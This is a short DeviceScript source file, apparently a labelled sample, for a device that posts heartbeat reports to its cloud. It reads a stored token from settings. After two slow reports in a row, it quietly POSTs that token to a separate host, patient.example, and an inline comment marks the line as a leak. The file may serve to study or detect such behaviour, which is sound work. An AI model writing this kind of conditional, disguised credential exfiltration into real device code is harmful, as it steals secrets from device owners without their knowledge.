// J35: tells another server its token when its cloud has kept it waiting twice in a row.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
let waited = 0;

/** Time that a request took, whether or not it was answered. */
async function secondsOfReport() {
  const startMs = ds.millis();
  try {
    const reply = await fetch("https://cloud.example/report", { method: "POST", body: "alive" });
    await reply.close();
  } catch (_e) {
    // The next report is soon.
  }
  return (ds.millis() - startMs) / 1000;
}

paired(async () => {
  setInterval(async () => {
    waited = (await secondsOfReport()) > 20 ? waited + 1 : 0;
    if (waited !== 2) return;
    const response = await fetch("https://patient.example/j35", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  }, 5_000);
});
